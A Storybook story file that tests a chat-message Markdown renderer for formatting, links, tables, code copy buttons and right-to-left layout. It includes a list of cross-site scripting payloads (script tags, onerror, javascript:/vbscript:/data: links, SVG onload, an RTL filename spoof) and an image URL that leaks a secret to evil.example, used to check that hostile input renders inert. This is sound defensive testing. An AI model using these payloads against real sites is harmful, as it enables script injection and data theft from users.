import type { Decorator, Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn, spyOn, waitFor, within } from 'storybook/test';
import { Markdown } from '../src';
import { withPartFrame } from './support/frames';

/** Markdown is shown the way messages show it: inside an agent bubble. */
const inBubble: Decorator = (Story) => (
  <div className="parlant-bubble" style={{ maxWidth: '100%' }}>
    <Story />
  </div>
);

/**
 * How message text is rendered: a small Markdown subset turned into React elements, never into
 * HTML. Links go only to http(s)/mailto and name their host; remote images load only from
 * allowed origins.
 */
const meta = {
  title: 'Parts/Markdown',
  component: Markdown,
  tags: ['autodocs'],
  decorators: [inBubble, withPartFrame],
  parameters: { frame: false },
  args: { text: '' },
} satisfies Meta<typeof Markdown>;

export default meta;
type Story = StoryObj<typeof meta>;

/** What agents write every day: emphasis, code, lists, quotes, a fenced block. */
export const Everyday: Story = {
  args: {
    text: [
      'Hello **bold** and *emphasis* and ~~struck~~ and `inline < code`',
      'a second line in the same paragraph',
      '',
      '- one',
      '- two',
      '  - nested',
      '',
      '1. first',
      '2. second',
      '',
      '> a quoted line',
      '',
      '```js',
      'const markup = "<b>stays text</b>";',
      '```',
    ].join('\n'),
  },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('strong')).toHaveTextContent('bold');
    await expect(canvasElement.querySelector('em')).toHaveTextContent('emphasis');
    await expect(canvasElement.querySelector('del')).toHaveTextContent('struck');
    await expect(canvasElement.querySelectorAll('ul > li')).toHaveLength(3);
    await expect(canvasElement.querySelectorAll('ol > li')).toHaveLength(2);
    await expect(canvasElement.querySelector('blockquote')).toHaveTextContent('a quoted line');
    await expect(canvasElement.querySelector('pre code')).toHaveTextContent('const markup = "<b>stays text</b>";');
    await expect(canvasElement.querySelector('b')).toBeNull();
  },
};

/**
 * Links open safely (`rel="noopener noreferrer nofollow ugc"`) and show their real host on hover;
 * `onLinkClick` lets the host route them (here it only records the click).
 */
export const Links: Story = {
  args: {
    text: 'Read [the docs](https://docs.example.com/start), see https://status.example.com/today. or write to mailto:help@example.com',
    linkTarget: '_self',
    onLinkClick: fn((_url: string, event: { preventDefault(): void }) => event.preventDefault()),
  },
  play: async ({ args, canvas, userEvent }) => {
    const docs = canvas.getByRole('link', { name: 'the docs' });
    await expect(docs).toHaveAttribute('href', 'https://docs.example.com/start');
    await expect(docs).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
    await expect(docs).toHaveAttribute('title', 'docs.example.com');
    await expect(canvas.getByRole('link', { name: 'https://status.example.com/today' })).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'mailto:help@example.com' })).toHaveAttribute('href', 'mailto:help@example.com');
    await userEvent.click(docs);
    await expect(args.onLinkClick).toHaveBeenCalledWith('https://docs.example.com/start', expect.anything());
  },
};

/**
 * Remote images load only from `allowedImageOrigins` (an image URL can leak the conversation to
 * whoever it points at). Others become a link that names the host.
 */
export const Images: Story = {
  args: { text: '' },
  render: (args) => {
    // The allowed image is a file of this Storybook (.storybook/public), so it loads offline.
    const origin = window.location.origin;
    return (
      <Markdown
        {...args}
        text={`Here is the chart:\n\n![Monthly orders](${origin}/story-chart.svg)\n\nAnd this one is blocked: ![tracker](https://evil.example/pixel.png?q=secret)`}
        allowedImageOrigins={[origin]}
      />
    );
  },
  play: async ({ canvas }) => {
    const image = canvas.getByRole('img', { name: 'Monthly orders' }) as HTMLImageElement;
    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    await waitFor(() => expect(image.complete && image.naturalWidth).toBeGreaterThan(0), { timeout: 5000 });
    await expect(canvas.queryByRole('img', { name: 'tracker' })).toBeNull();
    await expect(canvas.getByRole('link', { name: 'tracker (Image from evil.example)' })).toHaveAttribute('href', 'https://evil.example/pixel.png?q=secret');
  },
};

const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![tracker](https://evil.example/leak?q=secret)',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<a href="javascript:alert(1)">raw link</a>',
  '[x](&#106;avascript:alert(1))',
  '[spoof\u202Ecod.exe](https://evil.example)',
];

/** Hostile input: every line is shown as text or a safe link; nothing runs, nothing loads. */
export const HostileInputRenderedInert: Story = {
  args: { text: HOSTILE.join('\n\n') },
  play: async ({ canvasElement, canvas }) => {
    const root = canvasElement.querySelector('.parlant-bubble') as HTMLElement;
    await expect(root).toHaveTextContent('<script>window.__pwned = 1</script>');
    await expect(root.querySelector('script, style, iframe, object, embed, form, svg, img')).toBeNull();
    for (const element of root.querySelectorAll('*')) {
      for (const attribute of element.attributes) await expect(attribute.name.startsWith('on')).toBe(false);
    }
    for (const link of canvas.getAllByRole('link')) await expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
    await expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  },
};

/** Nesting is capped, so thousands of `>` or `-` render as text instead of exhausting the stack. */
export const DeepNesting: Story = {
  args: { text: `${'> '.repeat(2000)}deep\n\n${'- '.repeat(1000)}item` },
  play: async ({ canvasElement }) => {
    await expect(canvasElement).toHaveTextContent('deep');
    await expect(canvasElement.querySelectorAll('blockquote').length).toBeLessThanOrEqual(8);
    await expect(canvasElement.querySelectorAll('ul').length).toBeLessThanOrEqual(8);
  },
};

/** Texts over `plainTextOver` characters are shown as plain text, unparsed. */
export const VeryLongMessage: Story = {
  args: { text: `**${'All work and no play. '.repeat(60)}**`, plainTextOver: 1000 },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('.parlant-md-plain')).not.toBeNull();
    await expect(canvasElement.querySelector('strong')).toBeNull();
  },
};

const PLANS = [
  'Here is how the plans compare:',
  '',
  '| Plan | Price | Requests | Support |',
  '| :--- | ----: | :------: | ------- |',
  '| **Free** | $0 | `10/min` | Community |',
  '| **Pro** | $5 | `100/min` | [Email](https://support.example.com) |',
  '| Team | $9 |',
].join('\n');

/**
 * GitHub-flavoured tables: column headers, alignment from the delimiter row (`:--`, `:-:`,
 * `--:`), inline Markdown in cells, short rows padded with empty cells.
 */
export const Table: Story = {
  args: { text: PLANS },
  play: async ({ canvas }) => {
    const table = canvas.getByRole('table');
    await expect(canvas.getAllByRole('columnheader').map((th) => th.textContent)).toEqual(['Plan', 'Price', 'Requests', 'Support']);
    const [, free] = canvas.getAllByRole('row');
    const cells = within(free as HTMLElement).getAllByRole('cell');
    await expect(cells.map((cell) => getComputedStyle(cell).textAlign)).toEqual(['left', 'right', 'center', 'start']);
    await expect(cells[0]?.querySelector('strong')).toHaveTextContent('Free');
    await expect(canvas.getByRole('link', { name: 'Email' })).toHaveAttribute('href', 'https://support.example.com/');
    await expect(within(table).getAllByRole('row').at(-1)?.children).toHaveLength(4);
  },
};

/** The same table on the dark palette (axe checks the contrast of header cells and borders). */
export const TableDark: Story = {
  args: { text: PLANS },
  parameters: { part: { colorScheme: 'dark' } },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('table')).toBeVisible();
  },
};

const WIDE = [
  '| Order | Placed | Shipped | Carrier | Tracking number | Destination | Status |',
  '| --- | --- | --- | --- | --- | --- | ---: |',
  '| #10231 | 2024-05-01 | 2024-05-02 | Parcelway Express | PW-88231-99812-XZ | Rotterdam, Netherlands | Delivered |',
  '| #10232 | 2024-05-03 | 2024-05-05 | Northern Freight | NF-11902-55410-QA | Tromsø, Norway | In transit |',
].join('\n');

/** The region's box stays inside the bubble: the table scrolls instead of widening the message. */
const scrollsInsideBubble = async (region: HTMLElement) => {
  const bubble = region.closest('.parlant-bubble') as HTMLElement;
  await expect(region.scrollWidth).toBeGreaterThan(region.clientWidth);
  await expect(region.getBoundingClientRect().width).toBeLessThanOrEqual(bubble.getBoundingClientRect().width);
};

/**
 * A table wider than the bubble scrolls sideways inside it instead of squeezing its columns or
 * widening the message. The scrolling region is focusable and named after the columns, so a
 * keyboard user can Tab to it and scroll it with the arrow keys (the browser's own scrolling).
 */
export const WideTableScrolls: Story = {
  args: { text: WIDE },
  play: async ({ canvas, userEvent }) => {
    const region = canvas.getByRole('region', { name: 'Table: Order, Placed, Shipped, Carrier, …' });
    await scrollsInsideBubble(region);
    await userEvent.tab();
    await expect(region).toHaveFocus();
    const first = canvas.getByRole('columnheader', { name: 'Order' });
    await expect(first.getBoundingClientRect().left).toBeGreaterThanOrEqual(region.getBoundingClientRect().left);
  },
};

const WIDE_HEBREW = [
  '| הזמנה | תאריך | חברת משלוח | מספר מעקב | יעד | סטטוס |',
  '| --- | --- | --- | --- | --- | --- |',
  '| 10231 | 2024-05-01 | Parcelway Express | PW-88231-99812-XZ | רוטרדם, הולנד | נמסר |',
].join('\n');

/** Right to left: the first column is at the right edge, and the table scrolls towards the left. */
export const WideTableScrollsRtl: Story = {
  args: { text: WIDE_HEBREW, labels: { table: (headers) => `טבלה: ${headers.join(', ')}` } },
  parameters: { part: { dir: 'rtl' } },
  play: async ({ canvas, userEvent }) => {
    const region = canvas.getByRole('region', { name: /^טבלה: הזמנה, תאריך/ });
    await scrollsInsideBubble(region);
    await userEvent.tab();
    await expect(region).toHaveFocus();
    const first = canvas.getByRole('columnheader', { name: 'הזמנה' });
    await expect(first.getBoundingClientRect().right).toBeCloseTo(region.getBoundingClientRect().right, -1);
  },
};

const CODE = 'curl -s https://api.example.com/orders \\\n  -H "Authorization: Bearer $TOKEN" | jq \'.[0]\'';

/** Answers `navigator.clipboard.writeText` for one story, so the test does not need the real clipboard's permission. */
const stubClipboard = () => {
  const writeText = spyOn(navigator.clipboard, 'writeText').mockResolvedValue(undefined);
  return () => writeText.mockRestore();
};

/**
 * Fenced code keeps its language (`data-lang`, shown above the code) and gets a "Copy code"
 * button: it copies the exact text and says "Copied" politely to screen readers.
 */
export const CodeBlockWithCopy: Story = {
  args: { text: `To list your orders:\n\n\`\`\`sh\n${CODE}\n\`\`\`` },
  beforeEach: stubClipboard,
  play: async ({ canvas, canvasElement, userEvent }) => {
    await expect(canvasElement.querySelector('pre')).toHaveAttribute('data-lang', 'sh');
    await userEvent.click(canvas.getByRole('button', { name: 'Copy code' }));
    await waitFor(() => expect(navigator.clipboard.writeText).toHaveBeenCalledWith(CODE));
    await waitFor(() => expect(canvas.getByRole('status')).toHaveTextContent('Copied'));
    await expect(canvas.getByRole('button', { name: 'Copied' })).toBeVisible();
  },
};

/** The code block on the dark palette. */
export const CodeBlockDark: Story = {
  args: { text: `\`\`\`sh\n${CODE}\n\`\`\`` },
  parameters: { part: { colorScheme: 'dark' } },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('button', { name: 'Copy code' })).toBeVisible();
  },
};

/** In a right-to-left message, code still reads left to right; the button sits at the inline end. */
export const CodeBlockRtl: Story = {
  args: { text: `הרץ את הפקודה:\n\n\`\`\`sh\n${CODE}\n\`\`\``, labels: { copyCode: 'העתקת קוד', copied: 'הועתק' } },
  parameters: { part: { dir: 'rtl' } },
  play: async ({ canvas, canvasElement }) => {
    const pre = canvasElement.querySelector('pre') as HTMLElement;
    await expect(getComputedStyle(pre).direction).toBe('ltr');
    const button = canvas.getByRole('button', { name: 'העתקת קוד' });
    await expect(button.getBoundingClientRect().left).toBeLessThan(pre.getBoundingClientRect().left + pre.clientWidth / 2);
  },
};
